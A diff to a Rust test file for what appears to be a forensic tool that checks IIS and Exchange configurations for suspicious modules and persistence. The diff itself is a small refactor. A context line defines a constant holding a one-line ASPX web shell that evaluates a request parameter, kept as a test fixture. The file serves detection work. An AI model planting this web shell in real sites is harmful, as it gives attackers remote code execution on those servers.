@@ -4,7 +4,7 @@
 
 use serde_json::{Value, json};
 
-use crate::scratch::{CASE, Scratch, text, text as text_of};
+use crate::scratch::{CASE, Scratch, text};
 
 const SHELL: &str = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"k\"],\"unsafe\");%>";
 
@@ -56,12 +56,13 @@ fn a_module_in_a_configuration_in_utf_16_is_a_door_that_leads_to_its_bytes() {
 /// The configuration of a server with Exchange in this folder, as its setup leaves it: what it registers of its own and of Windows'.
 fn exchange_server(root: &str) -> String {
     let filters = [("bin\\owaauth.dll", "OWA"), ("bin\\AirFilter.dll", "ActiveSync")];
-    let filters: String = filters
+    let filters: Vec<String> = filters
         .iter()
         .map(|(file, name)| {
             format!("<filter name=\"Exchange {name}\" path=\"{root}\\FrontEnd\\HttpProxy\\{file}\" />\n")
         })
         .collect();
+    let filters = filters.concat();
     format!(
         r#"<?xml version="1.0"?>
 <configuration>
@@ -130,13 +131,14 @@ fn an_unknown_module_is_unknown_until_a_second_sign_speaks_against_it() {
         (r"%windir%\System32\inetsrv\kerbauth.dll", "succeeded open"),
         (r"\\fs01\share\agent9.dll", "succeeded open"),
     ];
-    let entries: String =
+    let entries: Vec<String> =
         more.iter().map(|(image, _)| format!("<add name=\"x\" image=\"{image}\" />\n")).collect();
-    let text = exchange_server(root).replace("</globalModules>", &format!("{entries}</globalModules>"));
-    scratch.write("MX01/C/Windows/System32/inetsrv/config/applicationHost.config", text);
+    let entries = format!("{}</globalModules>", entries.concat());
+    let configuration = exchange_server(root).replace("</globalModules>", &entries);
+    scratch.write("MX01/C/Windows/System32/inetsrv/config/applicationHost.config", configuration);
     scratch.investigate("MX01").expect(0);
     let shown = each_door(&scratch, |door| {
-        format!("{}: {} {}", text_of(door, "place"), text_of(door, "verdict"), text_of(door, "state"))
+        format!("{}: {} {}", text(door, "place"), text(door, "verdict"), text(door, "state"))
     });
     let mut expected: Vec<String> = more.iter().map(|(image, judged)| format!("{image}: {judged}")).collect();
     expected.sort();
@@ -146,7 +148,7 @@ fn an_unknown_module_is_unknown_until_a_second_sign_speaks_against_it() {
     let unknown = scratch.object("doors.json");
     let unknown =
         unknown["doors"].as_array().expect("a list").iter().find(|door| door["verdict"] == "probed");
-    let close = text_of(unknown.expect("it is told"), "close");
+    let close = text(unknown.expect("it is told"), "close");
     assert!(close.starts_with("find out whose it is before anything is removed"), "{close}");
 }
 
